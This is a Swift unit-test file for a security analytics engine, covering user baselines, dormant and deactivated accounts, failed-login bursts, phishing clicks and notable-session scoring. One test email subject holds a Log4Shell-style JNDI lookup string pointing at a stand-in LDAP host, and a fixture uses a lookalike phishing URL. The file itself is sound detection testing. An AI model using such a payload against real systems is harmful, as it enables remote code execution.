import Foundation
import XCTest
import OspreyCore
@testable import OspreyAnalytics

/// docs/analytics.md: convergence follows a person's active days, last activity follows their own actions,
/// high-fidelity facts are notable alone, live notable, and Osprey's own rules (OSP-).
final class RhythmAndActivityTests: XCTestCase {
    /// The others' ordinary month (days 0…29) so the organization is past warm-up and its shared models
    /// have converged; `pat` (sales) is the person under test.
    func organization(_ h: Harness, days: Int = 30) -> [Event] {
        h.baselineEvents(days: days, users: ["sam", "sue", "sid", "sal", "eve", "eli", "ema", "eric"])
    }

    /// One short session of pat's: a login, a search, one mail.
    func patDay(_ h: Harness, _ d: Int, isp: String = "BT", country: String = "GB") -> [Event] {
        let t = h.day(d, 10)
        return [h.login("pat", t, country: country, isp: isp, ip: "81.2.69.77"),
                h.activity("pat", t + 20 * 60_000, operation: "Search"),
                h.mail("pat", t + 40 * 60_000, to: "bob@partner.com", bytes: 48_000, attachments: ["report.pdf"], recipients: ["bob@partner.com"])]
    }

    func inbound(_ h: Harness, _ name: String, _ t: Int64, extra: [String: Value] = [:]) -> Event {
        var e = h.base(.emailIn, name, t)
        e["sender"] = .string("news@vendor.com")
        e["dest_email_address"] = .string(h.user(name).email)
        e["email_subject"] = .string("Monthly newsletter")
        e["direction"] = .string("inbound")
        e["bytes"] = .int(20_000)
        for (k, v) in extra { e[k] = v }
        return e
    }

    func click(_ h: Harness, _ name: String, _ t: Int64, verdict: String) -> Event {
        var e = h.base(verdict == "malicious" ? .emailInFailed : .emailIn, name, t)
        e["record_type"] = .string("ttp-url")
        e["url"] = .string("https://login-micros0ft.example/verify")
        e["url_verdict"] = .string(verdict)
        e["sender"] = .string("it-support@lure.example")
        e["method"] = .string("User Click")
        return e
    }

    func baseline(_ h: Harness, _ user: String, _ model: String) -> BaselineView? {
        h.engine.baselines(scope: h.user(user).email).first { $0.model == model }
    }

    // MARK: convergence

    func testActiveOnEightOfThirtyDaysConvergesPerUserModels() throws {
        let h = try Harness()
        var events = organization(h)
        for d in [0, 4, 8, 11, 15, 19, 23, 27] { events += patDay(h, d) }
        let triggers = h.feed(events + patDay(h, 30, isp: "Telia", country: "SE"))
        // Categorical (country, ISP, application, user agent) and numeric (message size) per-user models.
        for m in ["UA-UC", "UA-UI-new", "APP-UApp", "APP-UAg", "EM-Bytes", "EM-Recipients-usr"] {
            let b = try XCTUnwrap(baseline(h, "pat", m), m)
            XCTAssertTrue(b.converged, "\(m) after 8 active days: \(b.observations) observations, \(b.distinct) distinct")
        }
        // Time-of-week keeps 20 observations: eight logins cannot say which of 168 hours is unusual.
        XCTAssertFalse(try XCTUnwrap(baseline(h, "pat", "APP-UTi")).converged)
        // A settled person is not "new": the established-user variants fire, the new-user ones do not.
        let pat = triggers.filter { $0.user == "pat@corp.com" }
        // UA-OC-F needs the user's own model converged; UA-UC-F is folded into it (same family).
        let oc = assertFires(pat, "UA-OC-F", evidence: ["value": .string("SE")])
        XCTAssertTrue(oc?.evidence["also_matched"]?.arrayValue?.contains(.string("UA-UC-F")) ?? false, "\(oc?.evidence.serialized() ?? "")")
        assertFires(pat, "UA-UI-F", evidence: ["value": .string("Telia")])
        assertSilent(pat, "UA-UC-new", "pat has a converged country model")
        assertSilent(pat, "UA-OC-new", "pat has a converged country model")
        assertSilent(pat, "UA-GC-new", "pat has a converged country model")
    }

    func testActiveOnThreeOfThirtyDaysDoesNotConverge() throws {
        let h = try Harness()
        var events = organization(h)
        for d in [0, 13, 26] { events += patDay(h, d) }
        let triggers = h.feed(events + patDay(h, 30, isp: "Telia", country: "SE"))
        for m in ["UA-UC", "UA-UI-new", "APP-UApp", "APP-UAg", "EM-Bytes", "EM-Recipients-usr", "APP-UTi"] {
            let b = try XCTUnwrap(baseline(h, "pat", m), m)
            XCTAssertFalse(b.converged, "\(m) after 3 active days: \(b.observations) observations")
        }
        let pat = triggers.filter { $0.user == "pat@corp.com" }
        assertSilent(pat, "UA-UC-F", "pat's country model has not converged")
        XCTAssertTrue(pat.contains { ["UA-UC-new", "UA-GC-new", "UA-OC-new"].contains($0.rule) },
                      "a new user's new country goes to the -new variants: \(pat.map(\.rule))")
    }

    func testEightActiveDaysStayInsideTheWindow() throws {
        // Twice a week for four weeks: the first day is still counted when the eighth arrives (aging 40 days).
        let h = try Harness()
        var events = organization(h, days: 33)
        for w in 0..<4 { events += patDay(h, w * 7 + 1) + patDay(h, w * 7 + 4) }
        h.feed(events + patDay(h, 32))
        let b = try XCTUnwrap(baseline(h, "pat", "UA-UC"))
        XCTAssertGreaterThanOrEqual(b.observations, 9)
        XCTAssertTrue(b.converged)
    }

    // MARK: the person's own activity

    func testReceivedMailDoesNotKeepAnAccountAliveForDormancy() throws {
        let h = try Harness()
        var events = organization(h, days: 42)
        for d in 0..<5 { events += patDay(h, d) }
        for d in 5..<41 { events.append(inbound(h, "pat", h.day(d, 7))) }   // mail keeps arriving daily
        events.append(h.login("pat", h.day(41, 10), ip: "81.2.69.77"))
        let triggers = h.feed(events).filter { $0.user == "pat@corp.com" }
        let t = assertFires(triggers, "DORMANT-USER")
        XCTAssertEqual(t?.score, 90, "a dormant account waking is notable alone")
        let live = h.outputs.compactMap { o -> SessionSummary? in if case .session(let s) = o, s.live { return s }; return nil }
        XCTAssertTrue(live.contains { $0.user == "pat@corp.com" }, "the waking session is notable while open")
    }

    func testOwnActionsAndClicksKeepAnAccountAlive() throws {
        for keep in ["send", "click"] {
            let h = try Harness()
            var events = organization(h, days: 42)
            for d in 0..<5 { events += patDay(h, d) }
            for d in 5..<41 { events.append(inbound(h, "pat", h.day(d, 7))) }
            if keep == "send" {
                events.append(h.mail("pat", h.day(20, 11), to: "bob@partner.com", recipients: ["bob@partner.com"]))
            } else {
                events.append(click(h, "pat", h.day(20, 11), verdict: "clean"))
            }
            events.append(h.login("pat", h.day(41, 10), ip: "81.2.69.77"))
            let triggers = h.feed(events).filter { $0.user == "pat@corp.com" }
            assertSilent(triggers, "DORMANT-USER", "pat acted (\(keep)) 21 days before")
        }
    }

    func testMailArrivingForADeactivatedAccountIsNotItsActivity() throws {
        let h = try Harness()
        var events = organization(h)
        let gone: [String: Value] = ["user_is_deactivated": .bool(true)]
        for d in 20..<28 { events.append(inbound(h, "leo", h.day(d, 8), extra: gone)) }
        var triggers = h.feed(events).filter { $0.user == "leo@corp.com" }
        assertSilent(triggers, "APP-Account-deactivated", "only inbound mail for leo")
        var failed = h.login("leo", h.day(28, 9), failed: true)
        failed["user_is_deactivated"] = .bool(true)
        triggers = h.feed([failed]).filter { $0.user == "leo@corp.com" }
        assertSilent(triggers, "APP-Account-deactivated", "a failed login is not the account's action")
        var login = h.login("leo", h.day(28, 10))
        login["user_is_deactivated"] = .bool(true)
        triggers = h.feed([login])
        XCTAssertEqual(assertFires(triggers, "APP-Account-deactivated")?.score, 90)
        h.finish()
        XCTAssertTrue(h.sessions.contains { $0.user == "leo@corp.com" && $0.notable && !$0.live })
    }

    // MARK: live notable

    func testLiveNotableIsEmittedOnceAtTheCrossingEvent() throws {
        let h = try Harness()
        h.feed(organization(h))
        var events: [Event] = []
        for k in 0..<4 { events.append(h.login("sam", h.day(30, 8, k), country: "KP", isp: "Ryugyong", ip: "175.45.176.\(k + 1)", failed: true)) }
        events.append(h.mail("sam", h.day(30, 9), to: "bob@partner.com", recipients: ["bob@partner.com"]))
        var seen: [(Int, SessionSummary)] = []
        var triggersBefore = 0
        for (i, e) in events.enumerated() {
            for o in h.engine.process(e) {
                h.outputs.append(o)
                if case .session(let s) = o, s.live { seen.append((i, s)) }
                if case .rule = o, seen.isEmpty { triggersBefore += 1 }
            }
        }
        XCTAssertEqual(seen.count, 1, "one notable line per session")
        let (at, s) = try XCTUnwrap(seen.first)
        XCTAssertLessThan(at, 4, "crossed during the failed-login burst")
        XCTAssertEqual(s.endMillis, events[at].timeMillis, "the notable line carries the crossing event's time")
        XCTAssertGreaterThanOrEqual(s.score, 90)
        XCTAssertEqual(s.threshold, 90)
        XCTAssertTrue(s.json.serialized().hasPrefix(#"{"kind":"notable","user":"sam@corp.com""#), s.json.serialized())
        h.finish()
        let closed = h.sessions.filter { $0.user == "sam@corp.com" && !$0.live && $0.session == s.session }
        XCTAssertEqual(closed.count, 1)
        XCTAssertTrue(closed[0].notable)
        XCTAssertGreaterThanOrEqual(closed[0].score, s.score)
    }

    func testNotableThresholdIsConfigurable() throws {
        var o = AnalyticsOptions()
        o.notableScore = 200
        let h = try Harness(options: o)
        h.feed(organization(h))
        var login = h.login("sue", h.day(30, 9), ip: "198.51.100.3")
        login["ti_ransomware"] = .bool(true)
        h.feed([login])
        h.finish()
        XCTAssertFalse(h.outputs.contains { if case .session(let s) = $0 { return s.live }; return false })
        XCTAssertFalse(h.sessions.contains { $0.user == "sue@corp.com" && $0.notable })
    }

    // MARK: high-fidelity facts and Osprey's rules

    func testHighFidelityFactsAreNotableAlone() throws {
        let h = try Harness()
        h.feed(organization(h))
        var tor = h.login("sue", h.day(30, 9), ip: "185.220.101.5"); tor["ti_tor"] = .bool(true)
        var ransom = h.login("sid", h.day(30, 9), ip: "198.51.100.3"); ransom["ti_ransomware"] = .bool(true)
        let jndi = inbound(h, "sal", h.day(30, 9), extra: ["email_subject": .string("Invoice ${jndi:ldap://203.0.113.9/a}")])
        h.feed([tor, ransom, jndi])
        h.finish()
        for u in ["sue", "sid", "sal"] {
            XCTAssertTrue(h.sessions.contains { $0.user == "\(u)@corp.com" && $0.notable }, "\(u): \(h.sessions.filter { $0.user == "\(u)@corp.com" }.map(\.rules))")
        }
    }

    func testFailedLoginBurstFromASuspiciousCountryIsNotableAndOneFailureIsNot() throws {
        let h = try Harness()
        h.feed(organization(h))
        var events: [Event] = []
        for k in 0..<4 { events.append(h.login("eve", h.day(30, 3, k), country: "KP", isp: "Ryugyong", ip: "175.45.176.9", failed: true)) }
        events.append(h.login("eli", h.day(30, 3), country: "KP", isp: "Ryugyong", ip: "175.45.176.9", failed: true))
        let triggers = h.feed(events)
        assertFires(triggers.filter { $0.user == "eve@corp.com" }, "OSP-FA-Burst-Suspicious")
        assertFires(triggers.filter { $0.user == "eli@corp.com" }, "OSP-FA-Suspicious")
        h.finish()
        XCTAssertTrue(h.sessions.contains { $0.user == "eve@corp.com" && $0.notable })
        XCTAssertFalse(h.sessions.contains { $0.user == "eli@corp.com" && $0.notable }, "one failure is not notable")
    }

    func testMaliciousClickFollowedByANewISPLoginIsNotable() throws {
        let h = try Harness()
        h.feed(organization(h))
        let t = h.day(30, 9)
        let triggers = h.feed([click(h, "sam", t, verdict: "malicious"),
                               h.login("sam", t + 40 * 60_000, isp: "Shady Hosting", ip: "45.9.20.1"),
                               click(h, "sue", t, verdict: "malicious")])
        assertFires(triggers.filter { $0.user == "sam@corp.com" }, "OSP-URL-Malicious-Click")
        assertFires(triggers.filter { $0.user == "sam@corp.com" }, "OSP-URL-Click-Then-Login")
        h.finish()
        XCTAssertTrue(h.sessions.contains { $0.user == "sam@corp.com" && $0.notable }, "\(h.sessions.filter { $0.user == "sam@corp.com" })")
        XCTAssertFalse(h.sessions.contains { $0.user == "sue@corp.com" && $0.notable }, "a blocked click alone is not notable")
    }

    func testFirstFileTypeForTheOrganization() throws {
        let h = try Harness()
        h.feed(organization(h))
        let triggers = h.feed([h.mail("eve", h.day(30, 9), to: "bob@partner.com", attachments: ["export.py"], recipients: ["bob@partner.com"])])
        assertFires(triggers, "OSP-EM-OFEXT-F", evidence: ["value": .string("py")])
    }

    // MARK: narrowed noisy rules

    func testPublicDomainIsBoundedPerSessionAndLearnsRoutine() throws {
        let h = try Harness()
        h.feed(organization(h, days: 20))
        // One session to ten patients at webmail: one trigger, not ten.
        var events: [Event] = []
        for k in 0..<10 { events.append(h.mail("sid", h.day(20, 9, k * 3), to: "patient\(k)@gmail.com", attachments: [], recipients: ["patient\(k)@gmail.com"])) }
        XCTAssertEqual(fired(h.feed(events), "EM-PublicDomain").count, 1)
        // Billing-like routine: sid mails patients at webmail every day; after three sessions it is routine.
        var later: [RuleTrigger] = []
        for d in 21..<26 { later += h.feed([h.mail("sid", h.day(d, 9), to: "p\(d)@yahoo.com", attachments: [], recipients: ["p\(d)@yahoo.com"])]) }
        XCTAssertLessThanOrEqual(fired(later, "EM-PublicDomain").count, 2, "routine webmail mail stops firing")
        XCTAssertTrue(fired(later.filter { $0.timeMillis >= h.day(24) }, "EM-PublicDomain").isEmpty)
    }

    func testFailedAttachmentIsKeyedOnTheFileNotItsName() throws {
        let h = try Harness()
        h.feed(organization(h))
        let size: [String: Value] = ["attachment_size": .int(120_000)]
        h.feed([h.mail("sue", h.day(30, 9), to: "x@gmail.com", attachments: ["invoice.pdf"], recipients: ["x@gmail.com"], failed: true, extra: size)])
        let other = h.feed([h.mail("sue", h.day(31, 9), to: "bob@partner.com", attachments: ["invoice.pdf"], recipients: ["bob@partner.com"],
                                   extra: ["attachment_size": .int(64_000)])])
        assertSilent(other, "FEM-FU", "another file that is also called invoice.pdf")
        let same = h.feed([h.mail("sue", h.day(32, 9), to: "x@gmail.com", attachments: ["invoice.pdf"], recipients: ["x@gmail.com"], extra: size)])
        assertFires(same, "FEM-FU")
    }
}
